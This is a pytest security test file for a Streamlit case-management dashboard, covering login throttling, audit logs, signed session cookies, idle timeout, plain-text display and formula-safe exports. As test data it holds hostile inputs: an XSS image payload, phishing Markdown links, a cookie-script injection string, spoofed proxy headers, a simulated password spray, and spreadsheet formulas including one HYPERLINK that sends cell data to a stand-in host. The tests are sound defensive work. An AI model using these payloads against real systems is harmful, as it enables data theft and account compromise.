"""The dashboard is safe to expose: throttled and audited logins, signed session cookies that expire and that
a logout voids, idle timeout, no tracebacks, stored texts as plain text, exports no spreadsheet runs, and
dormant cases listed apart (district-scoped)."""

from __future__ import annotations

import io
import json
import os
import stat
import subprocess
import sys
import time
from datetime import datetime, timedelta
from pathlib import Path

import markdown_it
import openpyxl
import pandas as pd
import pytest
import streamlit as st
from hypothesis import given, settings
from hypothesis import strategies as hs
from sqlalchemy import delete, update
from sqlalchemy.exc import IntegrityError
from streamlit.testing.v1 import AppTest

from contracts.settings import Settings
from contracts.vocabulary import RecordKind
from dashboards import audit, auth, context, present, queries
from dashboards.labels import EN, ZH
from dashboards.source import open_source
from dashboards.throttle import ADDRESS_FAILURE_FACTOR, WINDOW, Policy, idle_expired, wait_seconds
from pipelines.cli_dashboard import DASHBOARD_SETTINGS, dashboard_command
from tests.builders import call_row, case_row, event_row, stored
from tests.dashboard_home import EAST, NORTH, PASSWORD, SECOND, USERS, build_home, use_home
from warehouse.accounts import Account, Role, add_account
from warehouse.dashboard_tables import audit_log
from warehouse.store import Warehouse, append
from warehouse.tables import INPUT_TABLES

APP = Path(__file__).resolve().parents[1] / "dashboards" / "app.py"
T0 = datetime(2025, 4, 10, 9, 0, 0)
POLICY = Policy(max_failures=5, backoff_seconds=30)
HOSTILE = (
    "欠薪 ![](http://x.example/p.png) [点此核实](http://phish.example) <img src=x onerror=alert(1)> **急**"
)
HOSTILE_NOTE = "# 标题\n- 列表 :red[红字] $x^2$ www.example.com a@b.example"
FORMULAS = ('=HYPERLINK("http://x/?d="&B2,"详情")', "@A1", "+1+1", "-2+3", "\t=1+1", "\r=1+1")


# ---------------------------------------------------------------- the throttle and idle rules (pure)


@pytest.mark.parametrize(
    ("offsets", "now", "wait"),
    [
        ([], 0, 0.0),
        ([0, 1, 2, 3], 4, 0.0),  # four failures: still free
        ([0, 1, 2, 3, 4], 4, 30.0),  # the fifth: 30 s from the latest
        ([0, 1, 2, 3, 4], 20, 14.0),
        ([0, 1, 2, 3, 4], 34, 0.0),
        ([0, 1, 2, 3, 4, 34], 34, 60.0),  # one more after waiting: doubled
        ([0, 1, 2, 3, 4, 34, 100], 110, 110.0),  # and again: 120 s from 100
        (list(range(40)), 39, WINDOW.total_seconds()),  # never longer than the window
        ([0, 1, 2, 3, 4], 3604, 0.0),  # failures older than the window are forgotten
    ],
)
def test_wait_doubles_after_max_failures(offsets: list[int], now: int, wait: float) -> None:
    failures = [T0 + timedelta(seconds=s) for s in offsets]
    assert wait_seconds(failures, T0 + timedelta(seconds=now), POLICY) == wait


def test_policy_comes_from_the_settings() -> None:
    policy = Policy.of(Settings(login_max_failures=3, login_backoff_seconds=7))
    assert (policy.max_failures, policy.backoff_seconds) == (3, 7.0)
    assert Policy.of(Settings()) == POLICY


@pytest.mark.parametrize(("idle", "expired"), [(None, False), (29, False), (30, True), (600, True)])
def test_idle_timeout(idle: int | None, expired: bool) -> None:
    last = None if idle is None else T0 - timedelta(minutes=idle)
    assert idle_expired(last, T0, 30) is expired


@pytest.mark.parametrize(
    ("remote", "headers", "address"),
    [
        ("203.0.113.7", {"X-Forwarded-For": "198.51.100.1"}, "203.0.113.7"),  # a remote peer's own
        (None, {"X-Forwarded-For": "6.6.6.6, 198.51.100.1"}, "198.51.100.1"),  # the proxy's, not the claim
        (None, {"X-Real-IP": "2001:db8::1"}, "unknown"),  # a header any client can send
        (None, {"X-Forwarded-For": "<script>"}, "unknown"),
        (None, {}, "unknown"),
    ],
)
def test_client_address(remote: str | None, headers: dict[str, str], address: str) -> None:
    assert auth.address_of(remote, headers) == address


# ---------------------------------------------------------------- logins against the store


@pytest.fixture
def accounts(tmp_path: Path) -> Warehouse:
    warehouse = Warehouse(f"sqlite:///{tmp_path / 'warehouse.db'}")
    with warehouse.transaction() as connection:
        for name in ("ana", "bo", "cy"):
            add_account(connection, name, Role.ANALYST, (EAST,), PASSWORD)
    return warehouse


def attempt(warehouse: Warehouse, name: str, password: str, seconds: float, address: str = "unknown"):
    return auth.login(warehouse, POLICY, name, password, address, T0 + timedelta(seconds=seconds))


def events(warehouse: Warehouse) -> list[tuple[str, str | None, str]]:
    rows = warehouse.read_table(audit_log).sort_values("id")
    names = [name if isinstance(name, str) else None for name in rows["user_name"]]
    return list(zip(rows["event"], names, rows["address"], strict=True))


def test_an_account_waits_after_five_failures_and_the_password_is_not_checked(
    accounts: Warehouse, monkeypatch: pytest.MonkeyPatch
) -> None:
    for second in range(4):
        assert attempt(accounts, "ana", f"guess-{second}", second) == auth.Attempt(None, 0.0)
    assert attempt(accounts, "ana", "guess-4", 4) == auth.Attempt(None, 30.0)
    checked: list[str] = []
    monkeypatch.setattr(auth, "authenticate", lambda c, n, p: checked.append(p))
    assert attempt(accounts, "ana", PASSWORD, 10) == auth.Attempt(None, 24.0)  # refused, even if right
    assert checked == []
    monkeypatch.undo()
    assert attempt(accounts, "ana", "guess-5", 34) == auth.Attempt(None, 60.0)  # doubled
    assert attempt(accounts, "ana", PASSWORD, 94).viewer == USERS["ana"]  # waited: logged in
    assert attempt(accounts, "ana", "typo", 95) == auth.Attempt(None, 0.0)  # a success clears the count
    assert [e for e, _, _ in events(accounts)] == [
        *["login_failure"] * 5,
        "login_refused",
        "login_failure",
        "login_success",
        "login_failure",
    ]


def test_an_address_waits_whichever_accounts_it_guesses(accounts: Warehouse) -> None:
    spray = "198.51.100.9"
    allowed = 5 * ADDRESS_FAILURE_FACTOR  # an address may be an office behind one NAT
    for second in range(allowed - 1):
        attempt(accounts, ("ana", "bo", "cy")[second % 3] + f"-{second}", "Passw0rd!", second, spray)
    assert attempt(accounts, "cy", PASSWORD, allowed - 1, spray).viewer is not None
    attempt(accounts, "nobody", "Passw0rd!", allowed, spray)
    assert attempt(accounts, "cy", PASSWORD, allowed + 2, spray) == auth.Attempt(None, 28.0)
    elsewhere = attempt(accounts, "cy", PASSWORD, allowed + 2, "198.51.100.10")
    assert elsewhere.viewer == Account("cy", Role.ANALYST, (EAST,))
    # an own account's success does not clear the address's count
    assert attempt(accounts, "cy", PASSWORD, allowed + 3, spray).wait_seconds == 27.0


def test_the_shared_unknown_address_is_throttled_only_per_account(accounts: Warehouse) -> None:
    for second, name in enumerate(("ana", "bo", "cy", "ana", "bo", "cy")):
        attempt(accounts, name, "wrong-pass", second)
    assert attempt(accounts, "ana", PASSWORD, 7).viewer is not None


def test_unknown_names_wait_alike_and_no_typed_secret_is_stored(accounts: Warehouse, tmp_path: Path) -> None:
    typed = "my-secret-password-typed-as-name"
    for second in range(5):
        attempt(accounts, typed, f"attempted-{second}", second)
    assert attempt(accounts, typed, "attempted-5", 6) == auth.Attempt(None, 28.0)  # no account enumeration
    attempt(accounts, "ana", "attempted-ana", 7)
    assert events(accounts) == [
        *[("login_failure", None, "unknown")] * 5,
        ("login_refused", None, "unknown"),
        ("login_failure", "ana", "unknown"),
    ]
    accounts.engine.dispose()
    stored_bytes = b"".join(path.read_bytes() for path in tmp_path.glob("warehouse.db*"))
    assert stored_bytes and b"attempted" not in stored_bytes and typed.encode() not in stored_bytes


@pytest.mark.slow
def test_the_count_is_shared_across_processes(accounts: Warehouse) -> None:
    """Five failures in another process: this one refuses the account."""
    script = (
        "import sys; from datetime import datetime; from dashboards import auth; "
        "from dashboards.throttle import Policy; from warehouse.store import Warehouse; "
        "w = Warehouse(sys.argv[1]); "
        "[auth.login(w, Policy(5, 30), 'bo', f'x{i}', '203.0.113.1', datetime(2025, 4, 10, 9, 0, i)) "
        "for i in range(5)]"
    )
    root = Path(__file__).resolve().parents[1]
    subprocess.run([sys.executable, "-c", script, accounts.url], check=True, cwd=root, timeout=120)
    assert attempt(accounts, "bo", PASSWORD, 10) == auth.Attempt(None, 24.0)


def test_the_audit_log_is_append_only(accounts: Warehouse) -> None:
    audit.append(accounts, audit.CASE_OPENED, T0, "unknown", "ana", "E1")
    for statement in (update(audit_log).values(case_id="E2"), delete(audit_log)):
        with pytest.raises(IntegrityError, match="append-only"), accounts.transaction() as connection:
            connection.execute(statement)
    with pytest.raises(ValueError, match="unknown audit event"):
        audit.append(accounts, "deleted_everything", T0, "unknown")
    assert events(accounts) == [("case_opened", "ana", "unknown")]


# ---------------------------------------------------------------- session cookies


def test_the_session_key_is_private_made_once_and_shared(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path / "home")
    key = auth.session_key(settings)
    path = settings.home / auth.SESSION_KEY_FILE
    assert len(key) == 64 and stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert auth.session_key(settings) == key  # every process of the home reads the same key
    path.write_text("short")
    with pytest.raises(OSError, match="too short"):
        auth.session_key(settings)


def test_a_session_token_is_refused_when_altered_foreign_expired_or_malformed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    key, other = b"k" * 64, b"o" * 64
    session = auth.Session("ana", T0)
    token = auth.issue_token(key, session)
    assert auth.read_token(key, token, 60) == session
    payload, rest = token.split(".", 1)
    for bad in (token[:-2] + "xx", payload[::-1] + "." + rest, "", None, "not-a-token", "a.b.c"):
        assert auth.read_token(key, bad, 60) is None, bad
    assert auth.read_token(other, token, 60) is None
    issued_long_ago = time.time() - 61
    monkeypatch.setattr(time, "time", lambda: issued_long_ago)
    old = auth.issue_token(key, session)
    monkeypatch.undo()
    assert auth.read_token(key, old, 60) is None and auth.read_token(key, old, 120) == session


def test_the_cookie_script_writes_one_cookie_and_no_markup() -> None:
    script = auth.cookie_script("fengqiao_session", "abc.def", 1800, secure=True)
    assert script == (
        '<script>document.cookie = "fengqiao_session=abc.def; Path=/; SameSite=Strict; Max-Age=1800; '
        'Secure";</script>'
    )
    hostile = auth.cookie_script("x", '"</script><img src=x onerror=alert(1)>', 60, secure=False)
    assert hostile.count("</script>") == 1 and hostile.endswith(";</script>") and "<img" in hostile
    assert "Max-Age=0" in auth.cookie_script("x", None, 1800, secure=False)


# ---------------------------------------------------------------- texts and exports


def _rendered(text: str) -> str:
    return markdown_it.MarkdownIt("commonmark").render(present.plain(text))


@pytest.mark.parametrize(
    "text", [HOSTILE, HOSTILE_NOTE, "1. 第一\n> 引用\n---\n***", "`code` _em_ \\n &amp;"]
)
def test_plain_text_makes_no_link_image_html_or_formatting(text: str) -> None:
    html = _rendered(text)
    for tag in ("<a ", "<img", "<em>", "<strong>", "<h1", "<li", "<ol", "<ul", "<blockquote", "<hr", "<code"):
        assert tag not in html, (text, html)
    assert "http:" not in present.plain(text) and "www." not in present.plain(text)


@settings(max_examples=80, deadline=None)
@given(hs.text(alphabet=hs.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zs", "Zl", "Zp"))))
def test_plain_text_shows_exactly_what_was_stored(text: str) -> None:
    html = _rendered(text)
    assert "<a " not in html and "<img" not in html and "<em>" not in html
    if text.strip():
        import html as entities

        inner = html.removeprefix("<p>").removesuffix("</p>\n")
        assert entities.unescape(inner) == text


def test_exports_run_no_formula_and_keep_numbers() -> None:
    frame = pd.DataFrame({"case_id": list(FORMULAS), "score": [0.5, -2.0, 3, 4, 5, 6], "town": ["湖滨"] * 6})
    book = openpyxl.load_workbook(io.BytesIO(present.excel_bytes(frame)))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    shown = [c.value for c in book.active["A"][1:]]
    assert shown[:5] == ["'" + text for text in FORMULAS[:5]] and shown[5] == "'\n=1+1"  # XML keeps no CR
    assert [c.value for c in book.active["B"][1:]] == [0.5, -2.0, 3, 4, 5, 6]
    assert {c.data_type for c in book.active["B"][1:]} == {"n"}
    read = pd.read_csv(io.BytesIO(present.csv_bytes(frame)), encoding="utf-8-sig", keep_default_na=False)
    assert read["case_id"].str.startswith("'").all() and read["score"].tolist() == [0.5, -2.0, 3, 4, 5, 6]


# ---------------------------------------------------------------- the app


def _dormant_file(settings: Settings) -> None:
    """A hand-made dormant-cases file and manifest count for the second list (one east, two north rows)."""
    rows = pd.DataFrame(
        {
            "case_id": ["D1", "D2", "D3"],
            "district": [EAST, NORTH, NORTH],
            "category": ["劳资纠纷", "邻里纠纷", "物业纠纷"],
            "opened_at": pd.to_datetime(["2024-01-02", "2023-05-06", "2024-02-03"]),
            "last_activity_at": pd.to_datetime(["2024-06-01", "2023-06-01", "2024-03-01"]),
            "days_inactive": [313, 679, 405],
        }
    )
    rows.to_parquet(settings.lists_dir / f"{SECOND.isoformat()}.dormant.parquet", index=False)
    manifest = settings.lists_dir / f"{SECOND.isoformat()}.manifest.json"
    about = json.loads(manifest.read_text(encoding="utf-8"))
    manifest.write_text(json.dumps({**about, "dormant_cases": 3, "dormant_days": 180}), encoding="utf-8")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    settings = build_home(tmp_path_factory.mktemp("security") / "home")
    warehouse = Warehouse(settings.warehouse_url)
    now = pd.Timestamp("2025-04-10 06:00")
    with warehouse.transaction() as connection:
        for kind, rows in (
            (RecordKind.CASES, [case_row("E4", "2025-03-01 09:00", description=HOSTILE)]),
            (RecordKind.CASE_EVENTS, [event_row("E4", "2025-03-02 09:00", "visit", note=HOSTILE_NOTE)]),
            (RecordKind.HOTLINE, [call_row("C9", "2025-03-03 09:00", case_id="E4", text=HOSTILE)]),
        ):
            append(connection, INPUT_TABLES[kind], stored(kind, rows).assign(ingested_at=now))
        add_account(connection, "locked", Role.ANALYST, (EAST,), PASSWORD)
    warehouse.engine.dispose()
    _dormant_file(settings)
    return settings.home


@pytest.fixture(autouse=True)
def environment(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    use_home(home, tmp_path, monkeypatch)


def logged_in(name: str, password: str = PASSWORD) -> AppTest:
    app = AppTest.from_file(str(APP), default_timeout=30).run()
    app.text_input(key="login_name").input(name)
    app.text_input(key="login_password").input(password)
    return app.button[0].click().run()


# The sidebar alone (AppTest reruns only the page script once a page is chosen, so the app's sidebar
# buttons are tried in a script of their own).
SIDEBAR = """
from dashboards import context
from dashboards.labels import ZH
from warehouse.accounts import Account, Role
context._sidebar_user(Account("vic", Role.VIEWER), ZH)
"""


def log_rows(home: Path) -> pd.DataFrame:
    return audit.recent(open_source(Settings(home=home)), 1000).iloc[::-1].reset_index(drop=True)


def markdown_bodies(app: AppTest) -> list[str]:
    """Every piece of text the browser reads as Markdown (markdown, captions, alerts, headings)."""
    kinds = ("markdown", "caption", "info", "warning", "error", "success", "header", "subheader", "title")
    return [str(element.value) for kind in kinds for element in app.get(kind)]


def test_the_app_refuses_a_locked_account_and_says_how_long_to_wait() -> None:
    for _ in range(4):
        assert [e.value for e in logged_in("locked", "wrong-password").error] == [ZH["login_failed"]]
    fifth = logged_in("locked", "wrong-password")
    assert [e.value for e in fifth.error] == [ZH["login_wait"].format(seconds=30)]
    sixth = logged_in("locked")  # the right password, during the wait
    assert len(sixth.error) == 1 and sixth.error[0].value.startswith("登录失败次数过多")
    assert not sixth.dataframe and not sixth.header


def test_logins_logouts_idle_expiry_and_opened_cases_are_audited(home: Path) -> None:
    idle = context.now() - timedelta(minutes=31)
    app = logged_in("ana")
    app.session_state["case_id"] = "E1"
    app.switch_page(context.page_script("case")).run()
    app.run()  # a rerun of the same case is not a second opening
    app.session_state[context.LAST_ACTIVE_KEY] = idle
    app.run()  # a page run after 31 idle minutes: nothing shown, logged out
    assert not app.exception and not app.dataframe and not app.header
    assert auth.SESSION_KEY not in app.session_state
    fresh = AppTest.from_file(str(APP), default_timeout=30)
    fresh.session_state[auth.SESSION_KEY] = "ana"
    fresh.session_state[context.LAST_ACTIVE_KEY] = idle
    fresh.run()  # the app's gate: the login form, saying why
    assert fresh.info[0].value == ZH["session_expired"].format(minutes=30)
    assert not fresh.dataframe and fresh.text_input(key="login_name").value == ""
    other = AppTest.from_string(SIDEBAR, default_timeout=30)
    other.session_state[auth.SESSION_KEY] = "vic"
    other.run().sidebar.button(key="logout").click().run()
    assert not other.exception and auth.SESSION_KEY not in other.session_state
    rows = log_rows(home)
    mine = rows[rows["user_name"].isin(["ana", "vic"])]
    assert mine[["event", "user_name", "case_id"]].fillna("").values.tolist()[-5:] == [
        ["login_success", "ana", ""],
        ["case_opened", "ana", "E1"],
        ["idle_expiry", "ana", ""],
        ["idle_expiry", "ana", ""],
        ["logout", "vic", ""],
    ]
    assert (mine["address"] == "unknown").all() and mine["at"].notna().all()


def test_admins_see_the_audit_log_and_others_do_not() -> None:
    admin = logged_in("admin")
    admin.session_state["case_id"] = "E2"
    admin.switch_page(context.page_script("case")).run()
    admin.switch_page(context.page_script("model")).run()
    assert not admin.exception
    log = next(t.value for t in admin.dataframe if ZH["audit_event"] in t.value.columns)
    assert {"查看案件", "登录成功"} <= set(log[ZH["audit_event"]])
    assert "E2" in log[ZH["case_id"]].tolist()
    analyst = logged_in("ana")
    analyst.switch_page(context.page_script("model")).run()
    assert not [t for t in analyst.dataframe if ZH["audit_event"] in t.value.columns]


def test_stored_texts_are_shown_as_plain_text() -> None:
    app = logged_in("admin")
    app.session_state["case_id"] = "E4"
    app.switch_page(context.page_script("case")).run()
    assert not app.exception
    assert HOSTILE in [t.value for t in app.text]
    for body in markdown_bodies(app):
        assert "](" not in body and "<img" not in body and "**急" not in body, body
    timeline = next(t.value for t in app.dataframe if ZH["text"] in t.value.columns)
    assert timeline[ZH["text"]].tolist() == [HOSTILE, HOSTILE_NOTE]  # as stored, newest first, plain cells
    for table in app.dataframe:
        config = json.loads(table.proto.columns or "{}")
        kinds = {column.get("type_config", {}).get("type") for column in config.values()}
        assert not kinds & {"link", "markdown"}, config


def test_a_failing_page_says_so_in_words_without_details(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: object) -> None:
        raise RuntimeError("/srv/secret/path.py line 12")

    monkeypatch.setattr(queries, "risk_list", broken)
    app = logged_in("ana")
    assert not app.exception
    assert [e.value for e in app.error] == [ZH["unexpected_error"]]
    assert "secret" not in "".join(markdown_bodies(app))
    assert st.get_option("client.showErrorDetails") == "none"
    assert st.get_option("client.disableDataExport") is True


def test_dormant_cases_are_listed_apart_and_scoped_to_districts() -> None:
    ana = logged_in("ana")
    expander = next(e for e in ana.expander if e.label.startswith(ZH["dormant_title"]))
    assert expander.label == f"{ZH['dormant_title']} (1)"
    assert ZH["dormant_help"].format(days=180) in [c.value for c in expander.caption]
    table = expander.dataframe[0].value
    assert table[ZH["case_id"]].tolist() == ["D1"] and set(table[ZH["district"]]) == {EAST}
    assert table["无进展天数"].tolist() == [313]
    admin = logged_in("admin")
    rows = next(e for e in admin.expander if e.label.startswith(ZH["dormant_title"])).dataframe[0].value
    assert rows[ZH["case_id"]].tolist() == ["D2", "D3", "D1"]  # longest inactive first
    older = logged_in("admin")
    older.selectbox(key="list_date").set_value(pd.Timestamp("2025-03-01").date()).run()
    expander = next(e for e in older.expander if e.label.startswith(ZH["dormant_title"]))
    assert [c.value for c in expander.caption] == [ZH["dormant_none"]] and not expander.dataframe


def test_dormant_query_counts(home: Path) -> None:
    source = open_source(Settings(home=home))
    everyone = queries.dormant_cases(USERS["vic"], source, SECOND)
    assert (everyone.count, everyone.days, len(everyone.rows)) == (3, 180, 3)
    north = queries.dormant_cases(USERS["nora"], source, SECOND)
    assert north.count == 2 and set(north.rows["district"]) == {NORTH}
    assert queries.dormant_cases(USERS["nora"], source, pd.Timestamp("2025-03-01").date()).rows is None


def test_the_dashboard_command_hides_error_details_and_passes_the_settings() -> None:
    command = dashboard_command(8501, "localhost")
    assert command[command.index("--client.showErrorDetails") + 1] == "none"
    assert command[command.index("--client.disableDataExport") + 1] == "true"
    env = Settings(login_max_failures=3, session_idle_minutes=10, dormant_days=90).environment(
        DASHBOARD_SETTINGS
    )
    assert (env["FENGQIAO_LOGIN_MAX_FAILURES"], env["FENGQIAO_SESSION_IDLE_MINUTES"]) == ("3", "10")
    assert env["FENGQIAO_LOGIN_BACKOFF_SECONDS"] == "30" and env["FENGQIAO_DORMANT_DAYS"] == "90"
    assert set(EN) == set(ZH)
